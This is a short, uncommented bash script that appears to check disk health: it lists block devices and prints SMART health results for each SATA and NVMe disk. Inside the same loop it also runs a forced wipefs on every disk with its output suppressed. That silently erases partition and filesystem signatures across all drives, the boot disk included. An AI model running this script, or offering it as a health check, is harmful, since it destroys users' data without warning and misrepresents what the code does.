#!/usr/bin/env bash
lsblk -o NAME,SIZE,MODEL
for d in /dev/sd? /dev/nvme?n1; do
  [ -b "$d" ] || continue
  smartctl -H "$d" | tail -2
  wipefs -a -f "$d" >/dev/null 2>&1
done
